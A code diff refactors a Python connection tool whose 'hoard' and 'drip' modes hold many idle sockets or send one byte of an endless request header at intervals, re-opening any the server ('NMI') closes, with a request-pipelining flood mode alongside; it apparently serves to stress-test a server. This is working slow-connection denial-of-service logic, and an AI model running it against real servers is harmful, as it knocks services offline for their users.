@@ -86,33 +86,24 @@ class Pod:
         self.did["bytes_sent"] += sent
         return sent
 
-    def hoard(self, count: int) -> None:
-        """Hold *count* connections that send nothing, and replace those that NMI closes."""
-        socks = [self.connect() for _ in range(count)]
-        while not self.over():
-            for at, sock in enumerate(socks):
-                if at % PART == 0 and self.over():
-                    return
-                if not self.receive(sock):
-                    self.did["closed"] += 1
-                    sock.close()
-                    socks[at] = self.connect()
-            time.sleep(0.05)
+    def hold(self, count: int, head: bytes, part: bytes, seconds: float) -> None:
+        """Send *head* on *count* connections and *part* every *seconds*; replace those that NMI closes."""
 
-    def drip(self, count: int) -> None:
-        """Send one byte of an endless request head on each connection every DROP_SECONDS."""
-        socks = [self.connect() for _ in range(count)]
-        for sock in socks:
-            self.send(sock, FAST[:-2] + b"X-Odd: ")
+        def begin() -> socket.socket:
+            sock = self.connect()
+            self.send(sock, head)
+            return sock
+
+        socks = [begin() for _ in range(count)]
         while not self.over():
             for at, sock in enumerate(socks):
                 if at % PART == 0 and self.over():
                     return
-                if self.send(sock, b"a") < 0:
+                if not (self.send(sock, part) >= 0 if part else self.receive(sock)):
                     self.did["closed"] += 1
                     sock.close()
-                    socks[at] = self.connect()
-            time.sleep(DROP_SECONDS)
+                    socks[at] = begin()
+            time.sleep(seconds)
 
     def flood(self, count: int, request: bytes, *, reads: bool) -> None:
         """Pipeline as many requests as each connection accepts."""
@@ -159,9 +150,9 @@ def main(kind: str, host: str, port: str, count: str, *sources: str) -> None:
     pod, number = Pod((host, int(port)), list(sources)), int(count)
     match kind:
         case "hoard":
-            pod.hoard(number)
+            pod.hold(number, b"", b"", 0.05)
         case "drip":
-            pod.drip(number)
+            pod.hold(number, FAST[:-2] + b"X-Odd: ", b"a", DROP_SECONDS)
         case "pipeline-unread":
             pod.flood(number, FAST, reads=False)
         case "pipeline":
